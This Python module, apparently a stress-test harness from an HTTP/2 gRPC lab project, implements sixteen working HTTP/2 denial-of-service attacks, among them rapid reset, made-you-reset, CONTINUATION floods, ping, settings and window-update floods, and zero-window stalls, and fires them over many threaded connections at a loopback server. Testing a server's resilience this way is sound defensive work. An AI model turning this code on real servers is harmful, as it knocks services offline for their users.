"""Clients that mean ill, and what each says: run as a program, it attacks a server on loopback for a while."""

from __future__ import annotations

import itertools
import json
import select
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from hpack import Encoder

from grpclab.http2 import frames
from grpclab.http2.frames import CONTINUATION, DATA, HEADERS, PRIORITY, Setting
from grpclab.http2.headers import literal
from grpclab.http2.messages import prefixed

SAY_HELLO = "/greet.GreeterService/SayHello"
BLOCK = Encoder().encode(
    [
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", SAY_HELLO.encode()),
        (b":authority", b"here"),
        (b"te", b"trailers"),
        (b"content-type", b"application/grpc"),
    ],
    huffman=False,
)
BEGINNING = frames.PREFACE + frames.settings({}) + frames.SETTINGS_ACK
PIECE = 64 * 1024
HELLO = prefixed(b"\n\x05world")


def _ids(first: int = 1) -> Iterator[int]:
    return iter(range(first, frames.MAX_STREAM_ID, 2))


def _open(stream_id: int) -> bytes:
    return frames.headers(stream_id, BLOCK, end=False)


def _pieces(said: Iterator[bytes]) -> Iterator[bytes]:
    """The same bytes in pieces of about PIECE."""
    buffer = bytearray()
    for some in said:
        buffer += some
        if len(buffer) >= PIECE:
            yield bytes(buffer)
            buffer.clear()
    yield bytes(buffer)


def tiny_messages() -> Iterator[bytes]:
    yield _open(1)
    yield from itertools.repeat(frames.data(1, prefixed(b"") * 3_000, end=False))


def tiny_frames() -> Iterator[bytes]:
    yield _open(1)
    yield from itertools.repeat(frames.data(1, prefixed(b""), end=False) * 1_000)


def unfinished_messages() -> Iterator[bytes]:
    begin = b"\0" + struct.pack(">I", 4_000_000) + bytes(16_000)
    for stream_id in _ids():
        yield _open(stream_id) + frames.data(stream_id, begin, end=False) + frames.data(stream_id, begin, end=False)


def half_open_streams() -> Iterator[bytes]:
    return map(_open, _ids())


def own_headers() -> Iterator[bytes]:
    """Half-open streams of which each has headers that no other has."""
    for stream_id in _ids():
        yield frames.headers(stream_id, BLOCK + literal("mark", f"{stream_id:08000}"), end=False)


def rapid_reset() -> Iterator[bytes]:
    for stream_id in _ids():
        yield _open(stream_id) + frames.data(stream_id, HELLO, end=True) + frames.rst_stream(stream_id, 8)


def made_you_reset() -> Iterator[bytes]:
    for stream_id in _ids():
        yield _open(stream_id) + frames.window_update(stream_id, frames.MAX_WINDOW)


def pings() -> Iterator[bytes]:
    return itertools.repeat(frames.ping(b"flooding") * 1_000)


def settings() -> Iterator[bytes]:
    yield b"".join(map(_open, range(1, 2_001, 2)))
    yield from itertools.repeat(frames.settings({Setting.INITIAL_WINDOW_SIZE: 65_535}) * 1_000)


def continuations() -> Iterator[bytes]:
    yield frames.frame(HEADERS, 0, 1, BLOCK)
    yield from itertools.repeat(frames.frame(CONTINUATION, 0, 1, b"\x00\x01a\x01b") * 1_000)


def unfinished_blocks() -> Iterator[bytes]:
    yield frames.frame(HEADERS, 0, 1, BLOCK)
    yield frames.frame(CONTINUATION, 0, 1, bytes(16_000)) * 30


def empty_data() -> Iterator[bytes]:
    yield _open(1)
    yield from itertools.repeat(frames.frame(DATA, 0, 1) * 1_000)


def priorities() -> Iterator[bytes]:
    return itertools.repeat(frames.frame(PRIORITY, 0, 1, bytes(5)) * 1_000)


def window_updates() -> Iterator[bytes]:
    yield _open(1)
    yield from itertools.repeat(frames.window_update(1, 1) * 1_000)


def requests() -> Iterator[bytes]:
    """Calls that would be in order, if only their answers were read."""
    for stream_id in _ids():
        yield _open(stream_id) + frames.data(stream_id, HELLO, end=True)


@dataclass(frozen=True, kw_only=True)
class Attack:
    """What is said, over how many connections at once, and how it is listened to."""

    say: Callable[[], Iterator[bytes]]
    connections: int = 2
    flood: bool = False
    """It is to be answered by ENHANCE_YOUR_CALM."""
    settings: dict[int, int] | None = None
    reads: bool = True
    """The answers are read."""


ATTACKS = {
    "tiny-messages": Attack(say=tiny_messages),
    "tiny-frames": Attack(say=tiny_frames),
    "unfinished-messages": Attack(say=unfinished_messages),
    "half-open": Attack(say=half_open_streams, flood=True),
    "own-headers": Attack(say=own_headers),
    "rapid-reset": Attack(say=rapid_reset, flood=True),
    "made-you-reset": Attack(say=made_you_reset, flood=True),
    "ping": Attack(say=pings, flood=True),
    "settings": Attack(say=settings, flood=True),
    "continuation": Attack(say=continuations, flood=True),
    "unfinished-blocks": Attack(say=unfinished_blocks, connections=300),
    "empty-data": Attack(say=empty_data, flood=True),
    "priority": Attack(say=priorities, flood=True),
    "window-update": Attack(say=window_updates, flood=True),
    "deaf": Attack(say=requests, reads=False),
    "no-window": Attack(say=requests, settings={Setting.INITIAL_WINDOW_SIZE: 0}, flood=True),
}
"""By name."""


def beginning(attack: Attack) -> bytes:
    """What the client of an attack says first."""
    return frames.PREFACE + frames.settings(attack.settings or {}) + frames.SETTINGS_ACK


def _attack(name: str, port: int, seconds: float, counts: dict[str, int]) -> None:
    attack, end = ATTACKS[name], time.monotonic() + seconds  # a busy machine may begin this thread late
    while time.monotonic() < end:
        counts["connections"] += 1
        said = _pieces(itertools.chain([beginning(attack)], attack.say()))
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=5) as link:
                link.setblocking(False)
                while time.monotonic() < end:
                    piece = next(said, b"")
                    _send(link, piece, end, reads=attack.reads)
                    if not piece:
                        time.sleep(0.05)
        except OSError:
            counts["closed"] += 1


def _send(link: socket.socket, piece: bytes, end: float, *, reads: bool) -> None:
    view = memoryview(piece)
    while view and time.monotonic() < end:
        readable, writable, _ = select.select([link] if reads else [], [link], [], 0.2)
        if readable and not link.recv(PIECE):
            raise ConnectionResetError
        if writable:
            view = view[link.send(view) :]


def attack(names: list[str], port: int, seconds: float) -> dict[str, int]:
    """Attack in all these ways at once; returns how many connections were made, and how many the server closed."""
    counts = {"connections": 0, "closed": 0}
    threads = [
        threading.Thread(target=_attack, args=(name, port, seconds, counts))
        for name in names
        for _ in range(ATTACKS[name].connections)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return counts


if __name__ == "__main__":
    print(json.dumps(attack(sys.argv[3:], int(sys.argv[1]), float(sys.argv[2]))))
